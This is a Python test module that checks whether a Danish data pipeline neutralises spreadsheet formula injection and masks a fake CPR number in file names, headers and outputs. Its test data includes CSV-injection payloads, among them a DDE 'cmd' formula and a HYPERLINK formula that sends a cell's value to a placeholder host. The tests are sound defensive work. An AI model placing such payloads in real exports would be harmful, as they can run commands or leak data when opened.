"""Hostile values and hostile names through the real pipeline (issue 12, items 4 and 5).

One full run of a small demo export made hostile on purpose: the input folder's name holds a
CPR-like number, so does an extra column's header, a few citizens carry formula-like values
that end in quarantine, and the rules file (a copy of the shipped one) labels two profiles
`=1+1` and `@SUM(1)`. Then each test reads one kind of output back. The failing runs (a
message that names the folder, a header, a mapped name) are ingest-only runs of their own.
The CPR used, `010190-1234`, is a syntactically CPR-like fake (`pipeline.privacy`'s pattern:
a valid DDMMYY and four digits).
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
from dataclasses import dataclass
from pathlib import Path

import duckdb
import openpyxl
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.config import Config
from pipeline.demo import write_demo
from pipeline.errors import InputError
from pipeline.runner import STAGES, run_stages

REF = dt.date(2024, 6, 30)
CPR = "010190-1234"
# every way the contract writes that number: none may reach an output
CPR_FORMS = ("010190-1234", "0101901234", "010190 1234")
CFG = Config(reference_date=REF, max_reject_share=0.1)
SHIPPED_RULES = Path(__file__).resolve().parent.parent / "pipeline" / "rules.toml"

# (column, value) of the hostile citizens appended to the demo export, in file order; each
# gives one quarantine row (sex is out of domain, birth year -5 too)
HOSTILE = (
    ("sex", '=HYPERLINK("http://example.invalid/?q="&A1,"klik")'),
    ("sex", "=cmd|' /C calc'!A0"),
    ("sex", "+SUM(1,1)"),
    ("sex", "@SUM(1)"),
    ("sex", "\t=1+1"),
    ("sex", "-2+3+cmd|' /C calc'!A0"),
    ("birth_year", "-5"),
)


def assert_no_cpr(text: str, where: str) -> None:
    for form in CPR_FORMS:
        assert form not in text, f"{form} in {where}"


def hostile_export(folder: Path) -> int:
    """The demo's 150 citizens with an extra column headed by a CPR number, and the
    HOSTILE citizens below them; returns the line of the first hostile row."""
    write_demo(folder, n=150, seed=3, reference_date=REF)
    path = folder / "citizens.csv"
    with open(path, encoding="cp1252", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    header, body = rows[0], rows[1:]
    template = dict(zip(header, body[0], strict=True))
    for i, (column, value) in enumerate(HOSTILE):
        body.append(list({**template, "citizen_id": f"H{i}", column: value}.values()))
    with open(path, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, delimiter=";", lineterminator="\n")
        w.writerow([*header, CPR])
        w.writerows([*r, "x"] for r in body)
    return len(rows) + 1  # the demo's notes hold no line breaks


def hostile_rules(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    text = SHIPPED_RULES.read_text("utf-8")
    for old, new in (("Psykisk syge misbrugere", "=1+1"),
                     ("Psykisk syge med diagnose eller traumatiserede", "@SUM(1)")):
        assert text.count(f'label_da = "{old}"') == 1
        text = text.replace(f'label_da = "{old}"', f'label_da = "{new}"')
    path = folder / "hostile-rules.toml"
    path.write_text(text, "utf-8")
    return path


@dataclass(frozen=True)
class Run:
    input_dir: Path
    out: Path
    first_hostile_line: int


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    root = tmp_path_factory.mktemp("hostile")
    input_dir = root / f"export-{CPR}"
    first = hostile_export(input_dir)
    out = root / "out"
    # the rules file in a folder whose name holds the number too: its path is in the
    # manifest, the log and marts.profiles
    run_stages(STAGES, out, CFG, input_dir=input_dir,
               rules_path=hostile_rules(root / f"rules-{CPR}"))
    return Run(input_dir, out, first)


# --- item 4: values that reach a spreadsheet --------------------------------------------


def test_formula_values_in_quarantine_csv_are_neutralised(run: Run) -> None:
    with open(run.out / "quarantine.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["table_name", "file", "line", "column_name", "value", "reason"]
    assert rows[1:] == [
        ["citizens", "citizens.csv", str(run.first_hostile_line + i), column, value,
         "out_of_domain"]
        for i, (column, value) in enumerate([
            ("sex", '\'=HYPERLINK("http://example.invalid/?q="&A1,"klik")'),
            ("sex", "'=cmd|' /C calc'!A0"),
            ("sex", "'+SUM(1,1)"),
            ("sex", "'@SUM(1)"),
            ("sex", "'\t=1+1"),
            ("sex", "'-2+3+cmd|' /C calc'!A0"),
            # a plain number is read as that number by every spreadsheet, never as a formula
            ("birth_year", "-5"),
        ])
    ]


def test_rules_labels_reach_tables_xlsx_as_text_never_formulas(run: Run) -> None:
    book = openpyxl.load_workbook(run.out / "publish" / "tables.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # a profile's row on every table's sheet; dual_diagnosis is no base profile, so not on
    # misuse's, whose rows are the base profiles (labelled as such)
    # issue 16: the movement sheets print the labels too (a row per horizon, a row per
    # point of the curves), with the same quote prefix; counted apart
    movement = {"Kohorte i M3 - status", "Tid til M3 forlades"}
    for label, sheets in (("=1+1", 7), ("@SUM(1)", 8)):
        everywhere = [c for c in cells if c.value in (label, f"{label} (basisprofil)")]
        found = [c for c in everywhere if c.parent.title not in movement]
        assert len({c.parent.title for c in found}) == len(found) == sheets, label
        # a string cell, with Excel's quote prefix (kept as text when someone edits it)
        assert {(c.data_type, c.quotePrefix) for c in everywhere} == {("s", True)}, label
    plain = next(c for c in cells if c.value == "Diffust psykisk syge uden diagnose")
    assert (plain.data_type, plain.quotePrefix) == ("s", False)


def test_tidy_csvs_hold_codes_and_numbers_only(run: Run) -> None:
    """No text from data reaches tables/<id>.csv: rows are profile codes (the rules file's
    codes, validated [a-z][a-z0-9_]*) or `total`, columns are catalogue or age-band codes."""
    for path in sorted((run.out / "publish" / "tables").glob("*.csv")):
        with open(path, encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        if path.stem in ("cohort_status", "time_to_leave"):  # issue 16: columns of their own
            codes = [r[2] for r in rows[1:]] if path.stem == "cohort_status" else [
                r[0] for r in rows[1:]]
            assert all(re.fullmatch(r"[a-z0-9_]+", c) for c in codes), path
            assert all(re.fullmatch(r"[a-z0-9_.\-]*", v) for r in rows[1:] for v in r), path
            continue
        assert rows[0] == ["row", "col", "n", "share", "hidden"]
        for r, c, n, share, hidden in rows[1:]:
            assert re.fullmatch(r"[a-z0-9_]+", r) and re.fullmatch(r"[a-z0-9_]+", c), path
            assert re.fullmatch(r"[0-9]*", n) and re.fullmatch(r"([0-9]+\.[0-9]{4})?", share)
            assert hidden in ("", "c")


# --- item 5: no CPR digits through names ------------------------------------------------


def test_the_page_shows_input_file_names_not_paths(run: Run) -> None:
    page = (run.out / "publish" / "report.html").read_text("utf-8")
    assert str(run.input_dir) not in page
    assert run.input_dir.name not in page
    for name in ("citizens.csv", "episodes.csv"):
        assert re.search(rf"<dd>{name}, SHA-256 [0-9a-f]{{64}}</dd>", page), name
    assert re.search(r"<dd>faxe-2013\.1 \(hostile-rules\.toml\), SHA-256", page)


def test_no_cpr_from_a_folder_name_or_header_reaches_any_output(run: Run) -> None:
    for name in ("publish/report.html", "run.json", "run.log", "quarantine.csv"):
        assert_no_cpr((run.out / name).read_text("utf-8"), name)
    manifest = json.loads((run.out / "run.json").read_text("utf-8"))
    masked_dir = str(run.input_dir).replace(CPR, "[CPR]")
    assert [(f["path"], f["extra_columns"]) for f in manifest["input_files"]] == [
        (f"{masked_dir}/citizens.csv", ["[CPR]"]),
        (f"{masked_dir}/episodes.csv", []),
    ]
    con = duckdb.connect(str(run.out / "warehouse.duckdb"), read_only=True)
    try:
        (runs,) = con.execute("select string_agg(manifest::varchar, ' ') from meta.runs").fetchone()
        assert_no_cpr(runs, "meta.runs")
        (paths,) = con.execute("select string_agg(path, ' ') from meta.input_files").fetchone()
        assert_no_cpr(paths, "meta.input_files")
        (source,) = con.execute("select any_value(rules_source) from marts.profiles").fetchone()
        assert source.endswith("/rules-[CPR]/hostile-rules.toml"), source
        columns = [c for (c,) in con.execute(
            "select column_name from information_schema.columns order by all").fetchall()]
        assert_no_cpr(" ".join(columns), "the warehouse's column names")
        assert con.execute("select count(*) from raw.citizens where \"[CPR]\" = 'x'"
                           ).fetchone() == (157,)
    finally:
        con.close()


def _failed_run(tmp_path: Path, input_dir: Path, cfg: Config = CFG) -> str:
    """Ingest `input_dir`, which must be refused; the message, with what the failed run
    kept (its log and its manifest), all checked for the CPR."""
    out = tmp_path / "out"
    with pytest.raises(InputError) as e:
        run_stages(["ingest"], out, cfg, input_dir=input_dir)
    message = str(e.value)
    assert_no_cpr(message, "the message")
    failed = tmp_path / "out.failed"
    for name in ("run.log", "run.json"):
        assert_no_cpr((failed / name).read_text("utf-8"), f"out.failed/{name}")
    cli = CliRunner().invoke(app, ["validate", "--input", str(input_dir),
                                   "--reference-date", REF.isoformat()])
    assert cli.exit_code == 3, cli.output
    assert_no_cpr(cli.output, "the validate command's output")
    return message


def _csv(folder: Path, citizens: str, episodes: str | None = None) -> Path:
    folder.mkdir(parents=True)
    (folder / "citizens.csv").write_text(citizens, "utf-8")
    if episodes is not None:
        (folder / "episodes.csv").write_text(episodes, "utf-8")
    return folder


EPISODES = "citizen_id;start_date;benefit\nC1;01-01-2020;kontanthjaelp\n"


def test_a_missing_input_folder_is_named_masked(tmp_path: Path) -> None:
    message = _failed_run(tmp_path, tmp_path / CPR / "export")
    assert message.startswith(f"{tmp_path}/[CPR]/export: input folder not found")


def test_a_missing_file_in_a_cpr_folder_is_named_masked(tmp_path: Path) -> None:
    folder = _csv(tmp_path / f"export-{CPR}", "citizen_id;birth_year\nC1;1980\n")
    message = _failed_run(tmp_path, folder)
    assert message.startswith(f"{tmp_path}/export-[CPR]: no episodes file")


def test_a_repeated_cpr_header_is_named_masked(tmp_path: Path) -> None:
    folder = _csv(tmp_path / "export", f"citizen_id;birth_year;{CPR};{CPR}\nC1;1980;a;b\n",
                  EPISODES)
    message = _failed_run(tmp_path, folder)
    assert message.startswith("citizens.csv: column '[CPR]' appears twice")


def test_a_mapped_cpr_header_is_named_masked(tmp_path: Path) -> None:
    folder = _csv(tmp_path / "export", "citizen_id;year\nC1;1980\n", EPISODES)
    cfg = Config(reference_date=REF, columns={"citizens": {"birth_year": CPR}})
    # the manifest records the config's mapping masked (its hash is of the config as given)
    message = _failed_run(tmp_path, folder, cfg)
    assert message.startswith(
        "citizens.csv: missing required column 'birth_year' (mapped from '[CPR]' in the config)")


def test_two_cpr_headers_become_two_warehouse_columns(tmp_path: Path) -> None:
    """Masked alike, two headers must not collide in raw.citizens."""
    folder = _csv(tmp_path / "export",
                  f"citizen_id;birth_year;{CPR};0202901234\nC1;1980;a;b\n", EPISODES)
    out = tmp_path / "out"
    run_stages(["ingest"], out, CFG, input_dir=folder)
    con = duckdb.connect(str(out / "warehouse.duckdb"), read_only=True)
    try:
        assert con.execute('select "[CPR]", "[CPR]_extra" from raw.citizens').fetchall() == [
            ("a", "b")]
    finally:
        con.close()
    manifest = json.loads((out / "run.json").read_text("utf-8"))
    assert manifest["input_files"][0]["extra_columns"] == ["[CPR]", "[CPR]"]
